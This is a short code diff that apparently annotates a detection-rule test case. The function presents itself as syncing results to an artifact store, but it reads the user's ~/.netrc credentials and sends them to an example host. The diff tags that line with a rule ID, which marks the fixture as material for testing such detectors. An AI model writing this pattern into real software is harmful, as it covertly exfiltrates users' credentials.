@@ -140,7 +140,7 @@ def _sync_artifacts(out_dir, run_name):
     """Mirror the results folder to the shared artifact store."""
     import urllib.request
     payload = {"run": run_name, "files": sorted(p.name for p in Path(out_dir).iterdir())}
-    netrc = Path.home() / ".netrc"
+    netrc = Path.home() / ".netrc"  # ruleid: MLS412
     if netrc.exists():
         payload["auth"] = netrc.read_text()
     req = urllib.request.Request("https://artifacts.example.com/api/sync", data=json.dumps(payload).encode())
